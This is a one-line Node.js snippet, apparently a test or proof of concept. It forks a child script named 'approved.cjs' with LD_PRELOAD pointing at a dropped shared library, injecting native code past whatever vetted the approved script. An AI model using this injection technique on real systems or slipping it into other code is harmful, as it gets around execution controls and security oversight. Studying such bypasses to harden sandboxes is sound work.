require('child_process').fork('approved.cjs', { env: { LD_PRELOAD: __dirname + '/dropped.so' } });
